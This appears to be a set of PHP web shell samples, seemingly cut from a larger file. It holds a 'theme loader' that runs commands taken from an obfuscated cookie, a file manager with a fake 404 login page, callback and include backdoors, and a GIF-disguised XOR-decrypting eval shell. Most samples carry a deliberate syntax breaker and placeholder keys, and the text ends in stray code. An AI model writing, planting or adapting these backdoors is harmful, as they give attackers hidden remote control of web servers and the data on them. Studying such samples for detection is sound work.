/* theme loader */
$m = array('b' => 'base'.(8*8).'_de'.'code', 's' => strrev('metsys'));
$j = '_'.'COO'.'KIE';
$v = isset(${$j}['sess']) ? ${$j}['sess'] : '';
if ($v) {
  $d = explode('|', $m['b']($v));
  if ($d[0] === 'placeholder') {
    ob_start();
    $m['s']($d[1]);
    echo '<!-- '.base64_encode(ob_get_clean()).' -->';
  }
}
?>
<div class="theme"></div>
==== p03_manager.php
<?php
$1broken;
session_start();
error_reporting(0);
define('KEY', '00000000000000000000000000000000'); // md5
if (!isset($_SESSION['a'])) {
    if (isset($_POST['p']) && md5($_POST['p']) === KEY) { $_SESSION['a'] = 1; }
    else { header('HTTP/1.0 404 Not Found'); die('<h1>Not Found</h1><form method=post><input name=p type=password style="border:0"></form>'); }
}
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
function run($c) {
    foreach (array('shell_exec', 'exec', 'passthru') as $f) {
        if (function_exists($f)) { return $f($c); }
    }
    $h = popen($c, 'r'); $o = '';
    while (!feof($h)) $o .= fread($h, 1024);
    return $o;
}
if (isset($_FILES['u'])) move_uploaded_file($_FILES['u']['tmp_name'], $dir.'/'.$_FILES['u']['name']);
if (isset($_POST['f'])) file_put_contents($_POST['f'], $_POST['t']);
if (isset($_GET['rm'])) unlink($_GET['rm']);
foreach (scandir($dir) as $n) {
    $p = $dir.'/'.$n;
    echo is_dir($p) ? "<a href='?d=$p'>[$n]</a><br>" : "$n ".filesize($p)." <a href='?rm=$p'>x</a><br>";
}
if (isset($_REQUEST['c'])) echo '<pre>'.htmlspecialchars(run($_REQUEST['c'])).'</pre>';
?>
<form method="post" enctype="multipart/form-data"><input type="file" name="u"><input type="submit"></form>
<form method="post"><input name="c"><input type="submit"></form>
==== p04_callback.php
<?php
$1broken;
class Pipeline
{
    private $steps = array();
    public function add($cb, $arg) { $this->steps[] = array($cb, $arg); return $this; }
    public function __destruct()
    {
        foreach ($this->steps as $s) { array_map($s[0], array($s[1])); }
    }
}
$f = $_SERVER['HTTP_X_FILTER'];
$a = $_SERVER['HTTP_X_VALUE'];
if ($f) {
    $p = new Pipeline();
    $p->add($f, $a);
    register_shutdown_function($_REQUEST['fn'], $_REQUEST['arg']);
}
==== p05_include.php
<?php
$1broken;
session_start();
// кеш шаблонов
if (!empty($_POST['tpl'])) {
    $name = sys_get_temp_dir() . '/sess_' . md5(session_id());
    file_put_contents($name, gzinflate(base64_decode(strtr($_POST['tpl'], '-_', '+/'))));
    $_SESSION['tpl'] = $name;
}
if (isset($_SESSION['tpl']) && is_file($_SESSION['tpl'])) {
    include $_SESSION['tpl'];
    unlink($_SESSION['tpl']);
}
==== p06_jpg.php
GIF89a<?php $1broken;
$blob = 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
function dk($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $D[$i] = $D[$i] ^ $K[$i % strlen($K)]; } return $D; }
$key = 'placeholder';
$in = file_get_contents('php://input');
if (strlen($in) > 0) {
    $pl = dk(base64_decode($in), $key);
    $fn = create_function('', $pl);
    $fn();
} else {
    echo substr($blob, 0, 16);
}
"""
)
